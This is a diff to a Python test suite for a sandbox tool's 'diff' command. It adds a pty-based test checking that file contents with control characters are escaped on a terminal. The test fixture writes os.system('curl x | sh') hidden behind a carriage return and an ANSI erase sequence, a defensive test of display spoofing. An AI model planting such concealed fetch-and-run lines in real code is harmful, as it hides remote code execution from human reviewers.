@@ -158,6 +158,44 @@ def check_names(s, allowed):
     s.tool("destroy_sandbox", sandbox_id=sid)
 
 
+def on_terminal(argv):
+    """argv's stdout as a terminal shows it (a pty), and its exit status."""
+    import pty
+    import select
+    master, slave = pty.openpty()
+    proc = subprocess.Popen(argv, stdout=slave, stderr=subprocess.DEVNULL)
+    os.close(slave)
+    out = b""
+    while True:
+        r, _, _ = select.select([master], [], [], 60)
+        try:
+            chunk = os.read(master, 65536) if r else b""
+        except OSError:  # EIO: the other side closed
+            chunk = b""
+        if not chunk:
+            break
+        out += chunk
+    os.close(master)
+    return proc.wait(timeout=60), out
+
+
+def check_contents(s, allowed):
+    p = make_project(allowed, "contents")
+    sid = s.create([{"source": p, "target": "/workspace/p"}])
+    code, _, err = s.sh(sid, "printf \"os.system('curl x | sh')\\r\\033[2K# a comment\\n\" > "
+                             "/workspace/p/x.py")
+    assert code == 0, err
+    code, out = on_terminal([s.mcpbox, "sandbox", "--state-dir", s.state, "diff", sid])
+    assert code == 0 and b"\x1b" not in out and b"\r\x1b" not in out, out
+    assert b"+os.system('curl x | sh')^M^[[2K# a comment" in out, out
+    piped = subprocess.run([s.mcpbox, "sandbox", "--state-dir", s.state, "diff", sid],
+                           capture_output=True, timeout=60).stdout
+    assert b"+os.system('curl x | sh')\r\x1b[2K# a comment\n" in piped, piped
+    s.tool("destroy_sandbox", sandbox_id=sid)
+    print("8: file contents with control characters are shown as ^M^[ on a terminal, "
+          "kept as bytes in a pipe")
+
+
 def check_sizes(s, allowed):
     p = make_project(allowed, "sizes")
     sid = s.create([{"source": p, "target": "/workspace/p"}])
@@ -219,6 +257,7 @@ def main():
                 return SKIP
             check_modes(s, allowed)
             check_names(s, allowed)
+            check_contents(s, allowed)
             check_sizes(s, allowed)
         finally:
             s.close()
